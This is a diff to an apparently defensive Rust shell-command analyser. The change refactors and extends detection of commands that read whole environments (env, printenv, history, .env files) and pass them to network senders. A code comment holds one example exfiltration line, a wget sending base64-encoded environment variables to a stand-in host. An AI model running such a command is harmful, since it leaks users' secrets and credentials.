@@ -254,15 +254,7 @@ fn environment_sent_in(cmds: &[lex::Simple], depth: usize) -> Option<Finding> {
             return Some(f);
         }
         let name = basename(c.argv.first()?);
-        let whole_env = (matches!(
-            name.as_str(),
-            "env" | "printenv" | "export" | "set" | "declare" | "history"
-        ) && c.argv[1..].iter().all(|a| a.starts_with('-')))
-            || super::secrets::shows_environments(&name, &c.argv[1..])
-            || c.argv[1..]
-                .iter()
-                .chain(&c.reads)
-                .any(|a| super::secrets::is_environment_file(a));
+        let whole_env = reads_environment(c);
         // The environment given to a sender inside its words: `wget "http://x/$(env |
         // base64)"`.
         if SENDERS.contains(&name.as_str()) && c.substitutions.iter().any(reads_environment) {
@@ -372,13 +364,15 @@ fn lists_everyone(s: &lex::Simple) -> bool {
 }
 
 /// Whether a command (or one inside it) reads a whole environment: `env`, `printenv`,
-/// `set`, `/proc/…/environ`, a `.env` file.
+/// `set`, the shell's `history`, `ps e`, `/proc/…/environ`, a `.env` file.
 fn reads_environment(c: &lex::Simple) -> bool {
     let name = c.argv.first().map(|p| basename(p)).unwrap_or_default();
+    let args = c.argv.get(1..).unwrap_or_default();
     (matches!(
         name.as_str(),
-        "env" | "printenv" | "export" | "set" | "declare"
-    ) && c.argv[1..].iter().all(|a| a.starts_with('-')))
+        "env" | "printenv" | "export" | "set" | "declare" | "history"
+    ) && args.iter().all(|a| a.starts_with('-')))
+        || super::secrets::shows_environments(&name, args)
         || c.argv
             .iter()
             .skip(1)
